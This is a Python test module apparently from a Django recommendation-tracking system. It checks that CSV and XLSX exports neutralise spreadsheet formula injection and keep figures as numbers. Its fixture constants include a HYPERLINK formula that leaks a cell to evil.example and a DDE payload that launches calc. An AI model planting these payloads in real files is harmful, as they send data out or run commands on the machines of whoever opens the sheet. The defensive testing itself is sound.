"""Text that a spreadsheet would run as a formula reaches no CSV or XLSX cell live: open data,
dashboard CSVs and the exchange export all neutralise it, and figures stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from exchange.exporter import export_datasets, export_file, workbook_bytes
from oversight.spreadsheet_safety import neutralise, restore
from portal.services import evidence_add
from recommendations import services
from recommendations.choices import IndicatorDirection
from recommendations.models import Measurement, ProgressReport, Recommendation
from tests.exchange.conftest import import_file, wipe_record
from tests.factories import DepartmentFactory, MemberFactory, StaffFactory, TopicFactory
from tests.published_world import PDF, at, issue

pytestmark = pytest.mark.django_db

NARRATIVE = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
FILE_NAME = "+1-2.pdf"
DEPARTMENT = "-2+3 cmd"


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 电话", "'+1 电话"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("已建成 =1", "已建成 =1"),
        ("'quoted'", "'quoted'"),
        ("-29.8", "-29.8"),
        ("+3", "+3"),
        ("", ""),
        (Decimal("-29.8"), Decimal("-29.8")),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_quotes_formula_text_only_and_restore_undoes_it(written, expected):
    assert neutralise(written) == expected
    assert restore(neutralise(written)) == written


@pytest.fixture
def hostile(settings, tmp_path):
    """A published recommendation whose accepted report, figure, file and department carry
    formula text, as a liaison or staff member could type them."""
    settings.MEDIA_ROOT = tmp_path
    staff = StaffFactory(is_superuser=False)
    department = DepartmentFactory(code="hostile", name=DEPARTMENT)
    topic = TopicFactory(code="2022-formula", year=2022)
    recommendation = services.recommendation_create(
        actor=staff,
        topic=topic,
        code="2022-F-01",
        number=1,
        title="强化技术反制",
        body="正文。",
        is_published=True,
    )
    issue(staff, recommendation, datetime.date(2022, 8, 31), at(2022, 5, 10))
    task = services.task_create(
        actor=staff,
        recommendation=recommendation,
        number=1,
        title="建设预警平台",
        lead_department=department,
        assigned_on=datetime.date(2022, 5, 20),
        due_date=datetime.date(2022, 7, 31),
        occurred_at=at(2022, 5, 20),
    )
    indicator = services.indicator_create(
        actor=staff, topic=topic, name="警情数", direction=IndicatorDirection.LOWER_IS_BETTER
    )
    report = services.report_create(
        actor=staff,
        task=task,
        department=department,
        narrative=NARRATIVE,
        measurements=[{"indicator": indicator, "change_percent": Decimal("-29.8"), "note": NOTE}],
    )
    evidence_add(actor=staff, report=report, uploaded=SimpleUploadedFile(FILE_NAME, PDF))
    services.report_submit(actor=staff, report=report, occurred_at=at(2022, 7, 25))
    services.report_accept(actor=staff, report=report, occurred_at=at(2022, 7, 28))
    return staff


def _body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _sheet(content):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def _column(sheet, name):
    header = [cell.value for cell in sheet[1]]
    return [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]


def _csv_column(content, name):
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    return [row[name] for row in rows]


@pytest.mark.parametrize(
    ("slug", "column", "text"),
    [
        ("reports", "narrative", NARRATIVE),
        ("measurements", "note", NOTE),
        ("evidence", "original_name", FILE_NAME),
    ],
)
def test_open_data_xlsx_and_csv_hold_formula_text_as_inert_text(client, hostile, slug, column, text):
    (cell,) = _column(_sheet(_body(client.get(f"/open-data/{slug}.xlsx"))), column)
    assert cell.data_type == "s"
    assert cell.value == "'" + text
    assert _csv_column(_body(client.get(f"/open-data/{slug}.csv")), column) == ["'" + text]


def test_open_data_figures_stay_numbers(client, hostile):
    sheet = _sheet(_body(client.get("/open-data/measurements.xlsx")))
    (change,) = _column(sheet, "change_percent")
    assert change.data_type == "n" and change.value == -29.8
    assert _csv_column(_body(client.get("/open-data/measurements.csv")), "change_percent") == ["-29.8"]


def test_dashboard_csv_neutralises_a_department_named_like_a_formula(client, hostile):
    client.force_login(MemberFactory())
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/overdue.csv").content.decode("utf-8-sig"))))
    assert ["'" + DEPARTMENT, "1"] in [row[:2] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_exchange_export_neutralises_and_its_import_restores_the_text(hostile):
    book = load_workbook(io.BytesIO(export_file("xlsx")))
    header = [cell.value for cell in book["reports"][1]]
    narratives = [row[header.index("narrative")].value for row in book["reports"].iter_rows(min_row=2)]
    assert narratives == ["'" + NARRATIVE]
    assert _csv_column(export_file("csv", sheet="reports"), "narrative") == ["'" + NARRATIVE]

    workbook = workbook_bytes(export_datasets())
    wipe_record()
    import_file("record.xlsx", workbook, actor=hostile)
    assert ProgressReport.objects.get().narrative == NARRATIVE
    assert Measurement.objects.get().note == NOTE


@pytest.mark.parametrize("fmt", [0, 1])  # the admin export's CSV and XLSX
def test_admin_export_neutralises_formula_text(client, hostile, fmt):
    recommendation = Recommendation.objects.get()
    recommendation.title = NARRATIVE
    services.record_save(actor=hostile, instance=recommendation)
    client.force_login(StaffFactory(username="admin-exporter"))
    url = reverse("admin:recommendations_recommendation_export")
    fields = {"recommendationresource_code": "on", "recommendationresource_title": "on"}
    response = client.post(url, {"format": fmt, "resource": 0, **fields})
    assert response.status_code == 200
    if fmt == 0:
        assert _csv_column(response.content, "title") == ["'" + NARRATIVE]
    else:
        (cell,) = _column(_sheet(response.content), "title")
        assert cell.value == "'" + NARRATIVE and cell.data_type == "s"
